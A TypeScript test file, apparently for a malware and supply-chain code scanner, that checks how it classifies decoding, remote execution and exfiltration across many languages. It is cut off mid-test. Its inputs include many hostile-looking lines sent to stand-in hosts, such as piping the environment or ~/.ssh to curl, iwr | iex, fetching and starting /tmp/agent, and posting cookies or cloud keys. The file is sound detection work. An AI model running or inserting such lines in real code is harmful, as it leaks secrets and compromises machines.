import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Act, ActKind } from '../src/facts/acts/act.ts';
import { readPlainCode } from '../src/facts/acts/plain-code.ts';
import { readActs } from '../src/facts/acts/read-acts.ts';

const MOST_MILLISECONDS = 2_000;
const PUMP_SIZE = 50_000;
const TRIES = 5;

function acts(text: string, language = 'python', path = 'pkg/module.py'): readonly Act[] {
  return readActs({ path, text, language, context: 'runtime' }).filter(({ onlyAtInstall }) => onlyAtInstall !== true);
}
function kinds(text: string, language = 'python', path = 'pkg/module.py'): readonly ActKind[] {
  return acts(text, language, path).map(({ kind }) => kind);
}

test('a value is followed through names, functions and aliases', () => {
  assert.deepEqual(kinds('a = base64.b64decode(x)\nb = a.decode()\nexec(b)\n'), ['decoded-execution']);
  assert.deepEqual(kinds('def get(u):\n    return requests.get(u).text\ncode = get(URL)\nexec(code)\n'), [
    'remote-execution',
  ]);
  assert.deepEqual(kinds('run = exec\nrun(base64.b64decode(x))\n'), ['decoded-execution']);
  assert.deepEqual(kinds('from os import system as s\ns(base64.b64decode(x))\n'), ['decoded-execution']);
});

test('a name that is packed step by step keeps its first meaning', () => {
  const text = `
data = {"h": socket.gethostname(), "u": getpass.getuser()}
data = json.dumps(data)
data = base64.b64encode(data.encode())
requests.post("https://c.example.net", data=data)
`;

  assert.deepEqual(kinds(text), ['system-facts-sent']);
});

test('letters in a mathematical dress are read as Python reads them', () => {
  const [act] = acts('print("ｅｘ")\n𝚎𝚡𝚎𝚌(__𝚒𝚖𝚙𝚘𝚛𝚝__("base64").𝚋𝟼𝟺𝚍𝚎𝚌𝚘𝚍𝚎(x))\n');

  assert.equal(act?.kind, 'decoded-execution');
  assert.equal(act.start, 'print("ｅｘ")\n'.length);
  assert.deepEqual(kinds('𝚎𝚡𝚎𝚌(atob(x));\n', 'javascript', 'a.js'), []);
});

test('one variable of the environment is not all of it', () => {
  const sent = (code: string) => kinds(`${code}\nfetch("https://c.example.net", { body });\n`, 'javascript', 'a.js');
  const asked = 'const key = await ask({ choices: Object.keys(process.env) });\nconst body = process.env[key];';
  assert.deepEqual(sent(asked), []);
  const counted = 'const choices = Object.keys(process.env).map((key) => process.env[key]);\nconst body = choices;';
  assert.deepEqual(sent(counted), ['environment-sent']);
  assert.deepEqual(sent('const env = process.env;\nconst body = JSON.stringify(env);'), ['environment-sent']);
  assert.deepEqual(sent('const env = process.env;\nconst body = env.TOKEN;'), []);
  assert.deepEqual(sent('const find = (env = process.env) => env.TOKEN;\nconst body = find();'), []);
  assert.deepEqual(sent('const body = settings(given ?? process.env);'), []);
  assert.deepEqual(kinds('e = os.environ\nrequests.post("https://c.example.net", json=list(e.items()))\n'), [
    'environment-sent',
  ]);
  assert.deepEqual(kinds('rows = load_settings(os.environ)\nrequests.post("https://c.example.net", json=rows)\n'), []);
});

test('what is written to a request of any name is sent, a setting called env too', () => {
  const sent = (name: string, told: string) =>
    kinds(
      `const data = JSON.stringify(${told});\nconst ${name} = http.request({ hostname: 'c.example.net', method: 'POST' });\n${name}.write(data);\n`,
      'javascript',
      'a.js',
    );
  assert.deepEqual(sent('reportRequest', '{ env: process.env, at: Date.now() }'), ['environment-sent']);
  assert.deepEqual(sent('outReq', '{ env: process.env.NODE_ENV }'), []);
  assert.deepEqual(sent('outReq', 'spawnSync(tool, [], { env: process.env }).stdout'), []);
  assert.deepEqual(kinds("spawn('wget', [url], { env: process.env });\n", 'javascript', 'a.js'), []);
});

test('a name that is looked up tells something only where it is put together with a domain', () => {
  const asked = (name: string) => kinds(`const name = ${name};\ndns.lookup(name, () => {});\n`, 'javascript', 'a.js');
  assert.deepEqual(asked('`${os.hostname()}.names.example.net`'), ['system-facts-sent']);
  assert.deepEqual(asked('os.hostname()'), []);
  assert.deepEqual(
    kinds(
      'def own():\n    return {"fqdn": socket.getfqdn("a.example.net")}\nn = own()["fqdn"]\nsocket.getaddrinfo(n, None)\n',
    ),
    [],
  );
});

test('one character, bytes of a number, a header and a setting hide and fetch nothing', () => {
  const script = (code: string) => kinds(`${code}\nnew Function(code)();\n`, 'javascript', 'a.js');
  assert.deepEqual(script('const mark = String.fromCharCode(4);\nconst code = `return ${rule}` + mark;'), []);
  assert.deepEqual(script('const code = String.fromCharCode(255 & n) + String.fromCharCode(n & 0xff);'), []);
  assert.deepEqual(script('const code = String.fromCharCode(97) + String.fromCharCode(98);'), ['decoded-execution']);
  assert.deepEqual(script('const code = list.map((n) => String.fromCharCode(n)).join("");'), ['decoded-execution']);
  assert.deepEqual(kinds('code = 303 if request.get("SERVER_PROTOCOL") == "HTTP/1.1" else 302\nexec(code)\n'), []);
  assert.deepEqual(kinds('code = request.get("https://c.example.net")\nexec(code)\n'), ['remote-execution']);
  const asked = 'url = get_setting("MIRROR", Text(str, str), os.environ)\n';
  assert.deepEqual(kinds(`${asked}urlopen(url)\n`), []);
  assert.deepEqual(kinds('requests.post("https://c.example.net", json=pack("a", os.environ))\n'), ['environment-sent']);
});

test('a short name that is given again and again stands for what was said near', () => {
  const others = Array.from({ length: 20 }, (_, index) => `function f${index}(e) { var e = ${index}; }`).join('\n');
  const text = `var e = process.env;\n${others}\n${' '.repeat(2_000)}\nfetch("https://c.example.net", { body: JSON.stringify(e) });\n`;
  assert.deepEqual(kinds(text, 'javascript', 'a.js'), []);
  const packed =
    'function a(e = process.env) {}\nasync function b(e) { await fetch("https://c.example.net", { body: JSON.stringify(e) }); }\n';
  assert.deepEqual(kinds(packed, 'javascript', 'a.js'), []);
});

test('what a regular expression looks for is not done', () => {
  const looksFor = 'const SEEN =\n  /fetch\\((?:url|eval)\\)|[/]eval\\(await fetch\\(x\\)\\)/;\nfetch(url);\n';
  assert.equal(readPlainCode(looksFor, 'javascript').text, 'const SEEN =\n  /\u2026/;\nfetch(url);\n');
  assert.deepEqual(
    kinds('const half = a / 2; eval(await (await fetch(u)).text()); b = c / d;\n', 'javascript', 'a.js'),
    ['remote-execution'],
  );
  // A slash that only seems to begin a pattern hides nothing.
  assert.deepEqual(kinds('x = (/[ 1;\neval(await (await fetch(u)).text());\n', 'javascript', 'a.js'), [
    'remote-execution',
  ]);
});

test('an archive that is unpacked and the installer of a vendor are not dropped', () => {
  const fetched = (use: string, url: string) =>
    `with urlopen("${url}") as answer, open(target, "wb") as out:\n    out.write(answer.read())\nsubprocess.run(\n        ${use},\n        shell=True)\n`;
  const kindsOf = (use: string, url: string) => kinds(fetched(use, url));
  assert.deepEqual(kindsOf(`f'tar -xzf "{target}" -C /srv'`, 'https://cdn.acme.io/a.tgz'), []);
  assert.deepEqual(kindsOf('["bash", target]', 'https://dot.net/v1/dotnet-install.sh'), []);
  assert.deepEqual(kindsOf('["bash", target]', 'https://cdn.acme.io/a.sh'), ['dropped-execution']);
});

test('a module that a bundler wrote out as text runs no answer', () => {
  const body = `"function get(u) { return fetch(u).then(function (r) { return r.text(); }); }\\n${'var a = 1;\\n'.repeat(400)}"`;
  assert.deepEqual(kinds(`eval(${body});\n`, 'javascript', 'a.js'), []);
  assert.deepEqual(kinds(`eval("var x = 1;" + await (await fetch(u)).text());\n`, 'javascript', 'a.js'), [
    'remote-execution',
  ]);
});

test('a group of a regular expression is no call', () => {
  assert.deepEqual(kinds('const WORDS = /Function(?=\\()|axios|fetch/;\n', 'javascript', 'a.js'), []);
});

test('a worker runs what its parent process writes to it', () => {
  const worker = 'def next(pipe):\n    code = marshal.loads(b64decode(pipe.readline().strip()))\n';
  assert.deepEqual(kinds(`${worker}    types.FunctionType(code, {})()\n`), []);
  assert.deepEqual(kinds(`${worker.replace('pipe.readline()', `"${'QUJD'.repeat(9)}"`)}    exec(code)\n`), [
    'decoded-execution',
  ]);
});

test('a file that a known program works on is not started', () => {
  const saved = "const picture = Buffer.from(answer.data, 'base64');\nfs.writeFileSync(file, picture);\n";
  assert.deepEqual(kinds(`${saved}execSync(\`convert "\${file}" out.jpg\`);\n`, 'javascript', 'a.js'), []);
  assert.deepEqual(kinds(`${saved}execSync(\`start "\${file}"\`);\n`, 'javascript', 'a.js'), ['dropped-execution']);
  const handsOver = (program: string): readonly string[] =>
    kinds(`${saved}spawn(${program}, [file]);\n`, 'javascript', 'a.js');
  assert.deepEqual(handsOver('preferences.uploader'), []);
  for (const program of ['process.execPath', 'pythonPath', 'shellOf()', 'a'])
    assert.deepEqual(handsOver(program), ['dropped-execution'], program);
  const named = `const viewer = path.join(root, 'python3');\n${saved}spawn(viewer, [file]);\n`;
  assert.deepEqual(kinds(named, 'javascript', 'a.js'), ['dropped-execution']);
});

test('a file beside the one that is started, and a script that stands written out, are not dropped', () => {
  const shot = "fs.writeFileSync(out, Buffer.from(shot.data, 'base64'));\n";
  const script =
    "const file = out.replace('.png', '.py');\nconst lines = [\n  'from PIL import Image',\n  `open(\"${out}\")`,\n];\n";
  const start = 'fs.writeFileSync(file, lines.join("\\n"));\nexecSync(`python3 "${file}"`);\n';
  assert.deepEqual(kinds(shot + script + start, 'javascript', 'a.js'), []);
  const notes =
    'const notes = await (await fetch(url)).text();\nawait fs.writeFile(path.join(dir, "notes.txt"), notes);\n';
  assert.deepEqual(
    kinds(`${notes}spawn('pip', ['install', '-r', 'notes.txt'], { cwd: dir });\n`, 'javascript', 'a.js'),
    [],
  );
  assert.deepEqual(kinds(`${notes}execSync('python notes.txt');\n`, 'javascript', 'a.js'), ['dropped-execution']);
});

test('a parameter with a default says nothing of those before it', () => {
  const text =
    'function start({\n  host,\n  port,\n  env = process.env,\n}) {\n  fetch(`http://${host}:${port}/`);\n}\n';
  assert.deepEqual(kinds(text, 'javascript', 'a.js'), []);
});

test('what a comment says is not done', () => {
  assert.deepEqual(kinds('# exec(base64.b64decode(x))\nprint(1)\n'), []);
  assert.deepEqual(kinds('// eval(atob(x))\nfetch(url);\n', 'javascript', 'a.js'), []);
});

test('what a docstring shows is not done, and a text that is run is', () => {
  const shown = 'class A:\n    """Use it:\n\n    spec = requests.get("https://bit.ly/x").text\n    """\n';
  assert.deepEqual(kinds(shown), []);
  assert.deepEqual(kinds(`${shown}exec(A.__doc__)\n`), ['shady-contact']);
  assert.deepEqual(kinds('requests.post("https://bit.ly/x", data=\n"""\na\n"""\n)\n'), ['shady-contact']);
});

test('a payload of a megabyte does not hide the call round it', () => {
  const text = `import os\nexec("${'QUJD'.repeat(250_000)}".decode("base64"))\n`;
  const [act] = acts(text);

  assert.equal(act?.kind, 'decoded-execution');
  assert.equal(act?.start, text.indexOf('exec('));
});

test('offsets lead back to the file, past what was left out', () => {
  const text = `# a comment\nblob = "${'A'.repeat(500)}"  # another\nvalue = 1\n`;
  const code = readPlainCode(text, 'python');

  assert.ok(code.text.length < text.length);
  assert.equal(code.toFile(code.text.indexOf('value')), text.indexOf('value'));
});

test('code outside functions runs at import, and so does a function the module calls', () => {
  const atLoad = (text: string): boolean | undefined => acts(text)[0]?.atLoad;

  assert.equal(atLoad('exec(base64.b64decode(x))\n'), true);
  assert.equal(atLoad('def go():\n    exec(base64.b64decode(x))\n'), false);
  assert.equal(atLoad('def go():\n    exec(base64.b64decode(x))\n\ngo()\n'), true);
  assert.equal(
    atLoad('class A:\n    async def go(\n        self, x: str\n    ) -> None:\n        exec(base64.b64decode(x))\n'),
    false,
  );
  assert.equal(atLoad('if ready(\n    x\n):\n    exec(base64.b64decode(x))\n'), true);
});

test('children get their environment, strangers do not', () => {
  assert.deepEqual(kinds('fetch(u, { body: JSON.stringify(process.env) });\n', 'javascript', 'a.js'), [
    'environment-sent',
  ]);
  assert.deepEqual(kinds("spawn('node', [], { env: { ...process.env } });\n", 'javascript', 'a.js'), []);
});

test('what a text says before a value that is put into it is no assignment', () => {
  const script = `
    const headers = read(request);
    console.log(\`asking: url=\${url}, headers=\${Object.keys(headers)}\`);
    start(JSON.stringify(process.env), \`\${name}\`);
    fetch(url, { headers });
  `;
  const python = `
headers = read(request)
print(f"asking: headers={headers}")
start(dict(os.environ), f"{name}")
requests.post(url, headers=headers)
`;

  assert.deepEqual(kinds(script, 'javascript', 'a.js'), []);
  assert.deepEqual(kinds(python), []);
});

test('a bracket or a semicolon in a literal ends nothing', () => {
  const text = `
data = "%s;%s" % (socket.gethostname(), getpass.getuser())
key = "[({"
requests.post("https://c.example.net", data=data)
`;

  assert.deepEqual(kinds(text), ['system-facts-sent']);
});

test('a default that is put in when all else fails does not hide what was there before', () => {
  const text = `
try:
    who = socket.gethostname() + getpass.getuser()
except Exception:
    who = "unknown"
requests.post("https://c.example.net", data=who)
`;

  assert.deepEqual(kinds(text), ['system-facts-sent']);
});

test('a command that came in is known however it was tidied up', () => {
  const text = `
page = session.get(SITE)
word = page.decode().split("<!--")[1]
word = word.replace("'", "")
subprocess.Popen(word, shell=True)
`;

  assert.deepEqual(kinds(text), ['remote-control']);
});

test('an installer that looks round or leaves something with the user is seen, a build is not', () => {
  const atInstall = (text: string): readonly ActKind[] => kinds(text, 'python', 'setup.py');

  assert.deepEqual(atInstall('os.system("ls -alR /workspace > notes")\n'), ['install-command']);
  assert.deepEqual(atInstall("os.system('{} setup.py sdist'.format(sys.executable))\n"), []);
  assert.deepEqual(atInstall('os.system("%s run_all.py" % sys.executable)\nos.system("py.test -q")\n'), []);
  assert.deepEqual(atInstall("subprocess.check_call('./www/compile_assets.sh')\n"), []);
  assert.deepEqual(atInstall('os.system(\'powershell -Command "exit 0"\')\n'), []);
  assert.deepEqual(atInstall('os.system(\'powershell -Command "exit 0; curl x"\')\n'), ['install-command']);
  assert.deepEqual(atInstall("os.system('{} setup.py sdist'.format(found))\n"), ['install-command']);
  assert.deepEqual(atInstall("subprocess.check_call('./www/start.sh')\n"), ['install-command']);
  assert.deepEqual(atInstall('open("C:/Users/me/Desktop/x.txt", "w").write("hi")\n'), ['install-write']);
  assert.deepEqual(atInstall('os.mkdir(f"/home/{name}/x")\n'), ['install-write']);
  assert.deepEqual(atInstall('os.system("ls build")\nopen("/etc/os-release").read()\nos.makedirs("build")\n'), []);
});

test('keys and files of the user that leave are told from keys that sign', () => {
  const keys = 'cd = boto3.Session().get_credentials()\n';
  const search = 'names = os.listdir(os.path.expanduser("~/notes"))\nfiles = {"f": open(names[0], "rb")}\n';

  assert.deepEqual(kinds(`${keys}requests.post(u, json={"k": cd.secret_key})\n`), ['secret-file-sent']);
  assert.deepEqual(kinds(`${keys}requests.get(u, auth=AWS4Auth(cd.access_key, cd.secret_key, "r", "s"))\n`), []);
  assert.deepEqual(kinds('cd = self.get_credentials()\nrequests.post(u, json={"k": cd.token})\n'), []);
  assert.deepEqual(kinds(`${search}requests.post(u, files=files)\n`), ['secret-file-sent']);
  assert.deepEqual(kinds('requests.post(u, files={"f": open(path, "rb")})\n'), []);
});

test('facts of a machine leave in other languages and by other ways too', () => {
  const go =
    'host, _ := os.Hostname()\nwho, _ := user.Current()\nhttp.PostForm(u, url.Values{"a": {host, who.Name}})\n';
  const ruby = "host = Socket.gethostname\nHTTParty.post(u, body: { h: host, u: ENV['USER'] })\n";
  const lookup = "require('dns').lookup(os.hostname() + '.c.example.net', () => {});\n";
  const cookies = 'jar = browser_cookie3.chrome()\nrequests.post(u, json=str(jar))\n';

  assert.deepEqual(kinds(go, 'go', 'a.go'), ['system-facts-sent']);
  assert.deepEqual(kinds(ruby, 'ruby', 'a.rb'), ['system-facts-sent']);
  assert.deepEqual(kinds(lookup, 'javascript', 'a.js'), ['system-facts-sent']);
  assert.deepEqual(kinds(cookies), ['secret-file-sent']);
});

test('a script that installs a package is one by any name', () => {
  const call = 'os.system("whoami")\n';

  assert.deepEqual(kinds(`from setuptools import setup\n${call}setup(name="x")\n`), ['install-command']);
  assert.deepEqual(kinds(call), []);
});

test('an address that a function of the file decodes is kept in disguise', () => {
  const text = 'def plain(x):\n    return bytes.fromhex(x).decode()\n\nrequests.post(plain(PLACE), data=d)\n';

  assert.deepEqual(kinds(text), ['shady-contact']);
  assert.deepEqual(kinds('def make(x):\n    return BASE + x\n\nrequests.post(make(PLACE), data=d)\n'), []);
});

test('a bot whose key is built in reports to its author', () => {
  const url = 'url = f"https://api.telegram.org/bot{token}/sendMessage"\nrequests.post(url, params=p)\n';

  assert.deepEqual(kinds(`token = "1234567890:${'Ab'.repeat(17)}x"\n${url}`), ['shady-contact']);
  assert.deepEqual(kinds(`token = os.environ["BOT_TOKEN"]\n${url}`), []);
});

test('programs that are started out of sight are seen', () => {
  const stored = 'code = """\nimport os\n"""\nwith open(place, "w") as f:\n    f.write(code)\n';

  assert.deepEqual(kinds('subprocess.Popen(["python3", "-c", "import other"])\n'), ['risky-command']);
  assert.deepEqual(kinds('def go():\n    subprocess.Popen(["python3", "-c", "import other"])\n'), []);
  assert.deepEqual(kinds(`${stored}subprocess.Popen(["python", place], creationflags=CREATE_NO_WINDOW)\n`), [
    'dropped-execution',
  ]);
  assert.deepEqual(kinds(`${stored}subprocess.run(["python", place])\n`), []);
});

test('what a program is given may be decoded, the program itself may not', () => {
  const secret = 'word = base64.b64decode(token).decode()\n';

  assert.deepEqual(kinds(`${secret}subprocess.run(["docker", "login", "-p", word])\n`), []);
  assert.deepEqual(kinds(`${secret}subprocess.run(["python3", "-c", word])\n`), ['decoded-execution']);
  assert.deepEqual(kinds(`${secret}subprocess.run(word, shell=True)\n`), ['decoded-execution']);
});

test('the name of an argument, and a name of another function, stand for nothing here', () => {
  const other = 'def other():\n    stdout = base64.b64decode(x)\n    return stdout\n\n';

  assert.deepEqual(kinds(`${other}def go():\n    subprocess.run(tool, stdout=None)\n`), []);
  assert.deepEqual(kinds('def go():\n    subprocess.run(tool)\n\ndef other():\n    tool = atob(x)\n'), []);
  assert.deepEqual(kinds('def go():\n    subprocess.run(TOOL)\n\nTOOL = atob(x)\n'), ['decoded-execution']);
});

test('a command that is handed in is not what another function calls by that name', () => {
  const other = 'def other(x):\n    cmd = base64.b64decode(x)\n    return cmd\n\n';

  assert.deepEqual(kinds(`${other}def go(cmd):\n    subprocess.Popen(cmd)\n`), []);
  assert.deepEqual(kinds(`${other}def go(cmd):\n    cmd = base64.b64decode(cmd)\n    subprocess.Popen(cmd)\n`), [
    'decoded-execution',
  ]);
});

test('an address in base64 is a disguise where the file decodes', () => {
  const address = `s = "${Buffer.from('https://c.example.net/collect').toString('base64')}"\n`;

  assert.deepEqual(kinds(`${address}url = base64.b64decode(s)\nrequests\n`), ['shady-contact']);
  assert.deepEqual(kinds(`${address}print(s)\nrequests\n`), []);
});

test('the end of a source of many megabytes is read', () => {
  const text = `${'x = 1\n'.repeat(600_000)}exec(base64.b64decode(x))\n`;
  const [act] = acts(text);

  assert.equal(act?.kind, 'decoded-execution');
  assert.equal(act?.start, text.indexOf('exec('));
});

test('a text that is written as numbers is a disguise', () => {
  assert.deepEqual(kinds("exec\nx = ''.join(map(chr, [104, 116, 116, 112]))\n"), ['disguised-call']);
  assert.deepEqual(kinds("exec\nx = ''.join(map(chr, range(65, 91)))\n"), []);
});

test('no file keeps the reader of acts busy', () => {
  const fillers = [
    'a',
    ' ',
    '(',
    '"',
    "'",
    'x = ',
    'exec(',
    'requests.get(',
    'a.b(',
    "['a'](",
    'open("a", "wb")',
    '\\x41',
    'open("~/a"',
    '"".join(map(chr,[10,',
    'a.get_credentials()',
    'Command::new("sh").arg(',
    'x.arg(1);',
    'new URL(',
    '`a`',
    'L[1] + ',
    '[]byte{0x77, ',
    '0x77, ',
    'curl_setopt($a, ',
    'a.execute(',
    'let a: B<C> = ',
    'eval a ',
    'base64 -d | a | ',
    'a=$(base64 -d',
    'tr "aaaaa" "bbbbb" | ',
    'env | curl ',
    'curl -d ',
    'file(DOWNLOAD a b)',
    'Invoke-WebRequest -OutFile $f ',
    '<Exec Command="a"',
    '/proc/1/mem',
  ];
  for (const [language, path] of [
    ['python', 'setup.py'],
    ['javascript', 'a.js'],
    ['go', 'a.go'],
    ['rust', 'build.rs'],
    ['php', 'a.php'],
    ['java', 'A.java'],
    ['groovy', 'build.gradle'],
    ['csharp', 'A.cs'],
    ['ruby', 'extconf.rb'],
    ['shell', 'a.sh'],
    ['cmake', 'CMakeLists.txt'],
    ['powershell', 'tools/init.ps1'],
    ['xml', 'a.targets'],
  ] as const) {
    for (const filler of fillers) {
      const text = `exec requests fetch https os.system( Command::new( openConnection\n${filler.repeat(PUMP_SIZE / filler.length)}`;
      const spent = leastSpent(() => acts(text, language, path));

      assert.ok(spent < MOST_MILLISECONDS, `${spent} ms on ${path} pumped with ${JSON.stringify(filler)}`);
    }
  }
});

function leastSpent(work: () => unknown): number {
  let least = Number.POSITIVE_INFINITY;
  for (let turn = 0; turn < TRIES && least >= MOST_MILLISECONDS; turn += 1) {
    const before = process.cpuUsage();
    work();
    const { user, system } = process.cpuUsage(before);
    least = Math.min(least, (user + system) / 1000);
  }
  return least;
}

test('what a chain of calls gives to a program of Rust belongs to it', () => {
  const rust = (code: string, path = 'src/lib.rs') => kinds(code, 'rust', path);
  assert.deepEqual(
    rust('let line = STANDARD.decode("bHMgLWxh").unwrap();\nCommand::new("sh").arg("-c").arg(line).spawn();\n'),
    ['decoded-execution'],
  );
  assert.deepEqual(
    rust('let line = base64::decode(TEXT)?;\nlet mut run = Command::new("sh");\nrun.arg("-c");\nrun.arg(line);\n'),
    ['decoded-execution'],
  );
  assert.deepEqual(rust('let image = STANDARD.decode(text)?;\nCommand::new("convert").arg("-").spawn();\n'), []);
  assert.deepEqual(
    rust(
      'let all: HashMap<String, String> = std::env::vars().collect();\nclient.post("https://c.acme.io").json(&all).send();\n',
    ),
    ['environment-sent'],
  );
  assert.deepEqual(rust('let key = std::env::var("KEY")?;\nclient.post("https://c.acme.io").json(&key).send();\n'), []);
});

test('a build script of Rust runs compilers, and nothing that it fetched', () => {
  const build = (code: string) => kinds(`fn main() {\n${code}\n}\n`, 'rust', 'build.rs');
  const fetched = 'let body = ureq::get("https://c.acme.io/a").call().unwrap();\nstd::fs::write("/tmp/agent", body);\n';
  assert.deepEqual(build(`${fetched}Command::new("/tmp/agent").spawn();`).toSorted(), [
    'dropped-execution',
    'install-command',
    'install-contact',
  ]);
  assert.deepEqual(
    build(
      'static P: &[u8] = include_bytes!("a.dat");\nstd::fs::write("/tmp/a", P);\nCommand::new("/tmp/a").spawn();',
    ).includes('dropped-execution'),
    true,
  );
  assert.deepEqual(
    build(
      'Command::new("git").args(["rev-parse", "HEAD"]).output();\nCommand::new("protoc").arg("--version").status();\nstd::thread::spawn(work);',
    ),
    [],
  );
});

test('programs, classes and texts are run under the names that each language has for it', () => {
  assert.deepEqual(
    kinds(
      'byte[] code = new URL("https://c.acme.io/A.class").openStream().readAllBytes();\nloader.defineClass("A", code, 0, code.length);\n',
      'java',
      'A.java',
    ),
    ['remote-execution'],
  );
  assert.deepEqual(kinds('new URLClassLoader(new URL[]{ new URL("http://c.acme.io/a.jar") });\n', 'java', 'A.java'), [
    'remote-execution',
  ]);
  assert.deepEqual(kinds('new URLClassLoader(new URL[]{ jar.toURI().toURL() });\n', 'java', 'A.java'), []);
  assert.deepEqual(
    kinds('var code = await client.GetByteArrayAsync(address);\nAssembly.Load(code);\n', 'csharp', 'A.cs'),
    ['remote-execution'],
  );
  assert.deepEqual(kinds('Assembly.Load(File.ReadAllBytes(path));\n', 'csharp', 'A.cs'), []);
  assert.deepEqual(
    kinds(
      'var start = new ProcessStartInfo();\nstart.FileName = "mshta";\nstart.Arguments = "https://c.acme.io/a";\n',
      'csharp',
      'A.cs',
    ),
    ['risky-command'],
  );
  assert.deepEqual(kinds("eval Base64.decode64('cHV0cyAx')\n", 'ruby', 'a.rb'), ['decoded-execution']);
  assert.deepEqual(kinds("line = Base64.decode64('bHM=')\n`#{line}`\n", 'ruby', 'a.rb'), ['decoded-execution']);
  assert.deepEqual(kinds('version = `git describe --tags`\nsystem "make"\n', 'ruby', 'a.rb'), []);
  assert.deepEqual(kinds("['sh', '-c', new String(text.decodeBase64())].execute()\n", 'groovy', 'build.gradle'), [
    'decoded-execution',
  ]);
  assert.deepEqual(kinds("def hash = 'git rev-parse HEAD'.execute().text.trim()\n", 'groovy', 'build.gradle'), []);
});

test('the environment and the keys of a cloud leave by the calls of PHP, Java and C#', () => {
  assert.deepEqual(
    kinds('<?php\n$data = json_encode($_ENV);\ncurl_setopt($c, CURLOPT_POSTFIELDS, $data);\n', 'php', 'a.php'),
    ['environment-sent'],
  );
  assert.deepEqual(
    kinds("<?php\ncurl_init('https://c.acme.io/' . getenv('AWS_SECRET_ACCESS_KEY'));\n", 'php', 'a.php'),
    ['secret-file-sent'],
  );
  assert.deepEqual(
    kinds("<?php\n$mode = $_ENV['MODE'];\ncurl_setopt($c, CURLOPT_POSTFIELDS, $mode);\n", 'php', 'a.php'),
    [],
  );
  assert.deepEqual(
    kinds(
      'var all = Environment.GetEnvironmentVariables();\nclient.PostAsync("https://c.acme.io", Content(all));\n',
      'csharp',
      'A.cs',
    ),
    ['environment-sent'],
  );
  const written = (value: string) =>
    kinds(`var link = url.openConnection();\nlink.getOutputStream().write(${value});\n`, 'java', 'A.java');
  assert.deepEqual(written('System.getenv().toString().getBytes()'), ['environment-sent']);
  assert.deepEqual(written('System.getenv().get("MODE").getBytes()'), []);
});

test('a command that is spelled letter by letter is kept in disguise', () => {
  const picked = Array.from({ length: 10 }, (_, at) => `L[${at}]`).join(' + ');
  assert.deepEqual(kinds(`c := ${picked}\nexec.Command("/bin/sh", "-c", c).Start()\n`, 'go', 'a.go'), [
    'decoded-execution',
  ]);
  const bytes = Array.from({ length: 16 }, () => '0x77').join(', ');
  assert.deepEqual(kinds(`var c = []byte{${bytes}}\nexec.Command("sh", "-c", string(c)).Start()\n`, 'go', 'a.go'), [
    'decoded-execution',
  ]);
  assert.deepEqual(kinds('args := names[0] + names[1]\nexec.Command("git", args).Run()\n', 'go', 'a.go'), []);
});

test('a script decodes and runs in one pipe, through a name, or cuts the program out of another file', () => {
  const shell = (code: string, language = 'shell', path = 'run.sh') => kinds(code, language, path);
  assert.deepEqual(shell('echo Y3VybCBodHRwczovL2V4YW1wbGUubmV0 | base64 -d | bash\n'), ['decoded-execution']);
  assert.deepEqual(shell('z="$(openssl enc -base64 -d < a.txt)"\ntrue\neval "$z"\n'), ['decoded-execution']);
  assert.deepEqual(shell('head -c +1024 a.xz | tr "\\t \\-_" " \\t_\\-" | xz -d | /bin/sh\n', 'm4', 'm4/a.m4'), [
    'decoded-execution',
  ]);
  assert.deepEqual(
    shell('_ := $(shell echo Y3VybCBodHRwczovL2V4YW1wbGUubmV0 | base64 -d | sh)\n', 'make', 'Makefile'),
    ['decoded-execution'],
  );
  assert.deepEqual(shell('echo "$CERTIFICATE" | base64 -d > cert.pem\n'), []);
  assert.deepEqual(shell('kubectl get secret a -o jsonpath={.data.b} | base64 -d | python3 -m json.tool\n'), []);
  assert.deepEqual(shell('part=$(base64 -w0 < run.sh)\nssh host "echo $part | base64 -d | bash"\n'), []);
  assert.deepEqual(shell('tail -n +5 names.txt | tr a-z A-Z | sort\nhead -c 16 /dev/urandom | xxd -p\n'), []);
});

test('steps of an action and scripts send credentials in a pipe', () => {
  const step = (run: string) => kinds(`runs:\n  steps:\n    - run: ${run}\n`, 'yaml', 'action.yml');
  assert.deepEqual(step('env | base64 | curl -s -d @- https://c.acme.io'), ['environment-sent']);
  assert.deepEqual(step('tar cz ~/.ssh | curl --data-binary @- https://c.acme.io'), ['secret-file-sent']);
  assert.deepEqual(step('env | sort'), []);
  assert.deepEqual(step('curl -d "$(cat ~/.ssh/id_ed25519.pub)" https://c.acme.io'), []);
  assert.deepEqual(step('curl --netrc-file ~/.netrc -d @body.json https://c.acme.io'), []);
  assert.deepEqual(kinds('a: env | curl -d @- https://c.acme.io\n', 'yaml', 'notes.yml'), []);
});

test('PowerShell runs what a name brought, and starts what it fetched out of sight', () => {
  const script = (code: string, path = 'setup.ps1') => kinds(code, 'powershell', path);
  assert.deepEqual(script("$d = [Convert]::FromBase64String('YWJj')\nInvoke-Expression $d\n"), ['decoded-execution']);
  assert.deepEqual(script('$b = (New-Object Net.WebClient).DownloadData($u)\n[Reflection.Assembly]::Load($b)\n'), [
    'remote-execution',
  ]);
  const fetched = '$f = "$env:TEMP\\a.exe"\nInvoke-WebRequest -Uri https://c.acme.io/a.exe -OutFile $f\n';
  assert.deepEqual(script(`${fetched}Start-Process $f -WindowStyle Hidden\n`), ['dropped-execution']);
  assert.equal(acts(`${fetched}Start-Process $f -Wait\n`, 'powershell', 'ci.ps1')[0]?.confidence, 'low');
  assert.equal(acts(`${fetched}Start-Process $f\n`, 'powershell', 'tools/init.ps1')[0]?.confidence, 'high');
  assert.deepEqual(script('$d = Get-Content build.txt\nInvoke-Expression $d\nInvoke-Expression (& tool init)\n'), []);
  assert.deepEqual(script('$s = irm https://community.chocolatey.org/install.ps1\niex $s\n'), []);
});

test('projects of .NET and recipes of CMake run what no build needs', () => {
  const project = (text: string) => kinds(`<Project>${text}</Project>`, 'xml', 'build/a.targets');
  assert.deepEqual(project('<Exec Command="powershell -w hidden -c &quot;iwr https://c.acme.io/a | iex&quot;" />'), [
    'risky-command',
  ]);
  assert.deepEqual(project('<Exec Command="powershell -ExecutionPolicy Bypass -File build.ps1" />'), []);
  assert.deepEqual(project('<Exec Command="dotnet tool restore" /><Exec Command="git rev-parse HEAD" />'), []);
  const task =
    'TaskFactory="RoslynCodeTaskFactory"><Code>client.DownloadFile("https://c.acme.io/a.exe", path); Process.Start(path);';
  assert.deepEqual(project(`<UsingTask ${task}</Code></UsingTask>`), ['dropped-execution']);
  const cmake = (text: string) => kinds(text, 'cmake', 'CMakeLists.txt');
  const started = 'execute_process(COMMAND "${D}/agent")\n';
  assert.deepEqual(cmake(`file(DOWNLOAD "https://c.acme.io/a" "\${D}/agent")\n${started}`), ['dropped-execution']);
